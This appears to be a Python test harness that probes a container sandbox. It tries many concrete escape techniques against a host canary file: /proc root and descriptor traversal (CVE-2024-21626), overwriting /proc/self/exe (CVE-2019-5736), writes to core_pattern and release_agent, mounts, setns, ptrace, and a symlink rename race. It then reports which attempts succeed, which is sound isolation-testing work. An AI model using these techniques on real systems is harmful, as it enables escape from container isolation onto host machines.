"""In a job: the known ways from a container to the machine's own files. Each tries to read the canary (a file of the
host's whose path is given) or to change it or the host's programs. Prints one JSON object: tried, escaped (names).

    escape_corpus.py HOST_CANARY_PATH SECRET_SHA256
"""
import ctypes
import hashlib
import json
import os
import subprocess
import sys

canary, digest = sys.argv[1:3]
tried, escaped = [], []


def attempt(name, act):
    """`act` gives bytes that it read, or True where it changed what it must not."""
    tried.append(name)
    try:
        got = act()
    except BaseException:  # whatever it is: it did not get through
        return
    if got is True or (isinstance(got, bytes) and hashlib.sha256(got).hexdigest() == digest):
        escaped.append(name)


def read(path, dir_fd=None):
    fd = os.open(path, os.O_RDONLY, dir_fd=dir_fd)
    try:
        return os.read(fd, 1 << 16)
    finally:
        os.close(fd)


def write(path):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, b"#!escaped\n")
    finally:
        os.close(fd)
    return True


def up(n):
    return "../" * n + canary.lstrip("/")


attempt("the path itself", lambda: read(canary))
for n in (1, 4, 16, 64):
    attempt(f"{n} folders up", lambda n=n: read(up(n)))
# The folders and files that /proc shows of each process, process 1 and this one among them.
processes = [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]
for p in processes:
    for link in ("root", "cwd", "exe", "map_files", "ns/mnt", "ns/net", "mem", "environ", "task/1/root"):
        attempt(f"/proc/{p}/{link}", lambda p=p, link=link: read(f"/proc/{p}/{link}/{up(16)}"))
    for link in ("exe", "mem", "oom_score_adj" if p == "none" else "exe"):
        if p not in ("self", "thread-self", str(os.getpid())):
            attempt(f"write /proc/{p}/{link}", lambda p=p, link=link: write(f"/proc/{p}/{link}"))
attempt("write /proc/self/exe", lambda: write("/proc/self/exe"))  # CVE-2019-5736
attempt("write the program of process 1", lambda: write("/run/holdfast"))
attempt("replace the program of process 1", lambda: os.rename("/opt/ml/model", "/run/holdfast") or True)
# Descriptors that were left open (CVE-2024-21626: a folder of the host's among them).
for fd in range(3, 1024):
    attempt(f"descriptor {fd}", lambda fd=fd: read(up(16), dir_fd=fd))
    attempt(f"/proc/self/fd/{fd}", lambda fd=fd: read(f"/proc/self/fd/{fd}/{up(16)}"))
# Links: through what the site hands in, and for what the site reads out.
for i, target in enumerate((canary, "/", "/proc/1/root", "/proc/self/cwd")):
    link = f"/opt/ml/model/link{i}"
    attempt(f"link to {target}", lambda link=link, target=target: os.symlink(target, link) or read(link))
    attempt(f"below a link to {target}", lambda link=link: read(f"{link}/{up(16)}"))
attempt("a hard link", lambda: os.link(canary, "/opt/ml/model/hard") or read("/opt/ml/model/hard"))
for folder in ("input", "code", "doors"):
    attempt(f"a link in place of {folder}",
            lambda folder=folder: os.rename(f"/opt/ml/{folder}", "/opt/ml/was") or os.symlink("/", f"/opt/ml/{folder}") or True)
# Devices and file systems.
attempt("a device node", lambda: os.mknod("/opt/ml/model/vda", 0o60600, os.makedev(254, 0)) or True)
for device in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
    attempt(device, lambda device=device: os.open(device, os.O_RDWR) >= 0)
libc = ctypes.CDLL(None, use_errno=True)
for kind in (b"proc", b"sysfs", b"tmpfs", b"overlay", b"cgroup2", b"debugfs"):
    attempt(f"mount {kind.decode()}", lambda kind=kind: libc.mount(b"x", b"/tmp", kind, 0, None) == 0)
attempt("bind mount of /", lambda: libc.mount(b"/", b"/tmp", None, 4096, None) == 0)
attempt("pivot_root", lambda: libc.syscall(155, b".", b".") == 0)
attempt("chroot out", lambda: os.chroot("/tmp") or True)
attempt("open_by_handle_at", lambda: libc.syscall(304, 3, ctypes.byref(ctypes.create_string_buffer(64)), 0) >= 0)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/fs/binfmt_misc/register"):
    attempt(f"write {path}", lambda path=path: write(path))
# Programs that raise rights.
for program in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp", "/usr/bin/chsh"):
    if os.path.exists(program):
        attempt(f"set-user-ID {program}", lambda program=program: subprocess.run(
            [program, "--help"], capture_output=True).returncode == 0 and os.geteuid() == 0)
attempt("setuid(0)", lambda: os.setuid(0) or True)
attempt("a new user namespace", lambda: libc.unshare(0x10000000) == 0)
attempt("a namespace of process 1's", lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0)
attempt("trace process 1", lambda: libc.ptrace(16, 1, 0, 0) == 0)
attempt("keys of the session", lambda: libc.syscall(250, 0, -3, 1) >= 0)
# A folder and a link that change places, for whoever walks the job's folder meanwhile.
swaps = 0
os.makedirs("/opt/ml/model/race/in", exist_ok=True)
os.symlink("/", "/opt/ml/model/race-link")
while swaps < 100_000:
    if libc.syscall(316, -100, b"/opt/ml/model/race", -100, b"/opt/ml/model/race-link", 2) != 0:  # RENAME_EXCHANGE
        break
    swaps += 1
tried.append(f"{swaps} swaps of a folder and a link")
print(json.dumps({"tried": len(tried), "swaps": swaps, "escaped": escaped}))
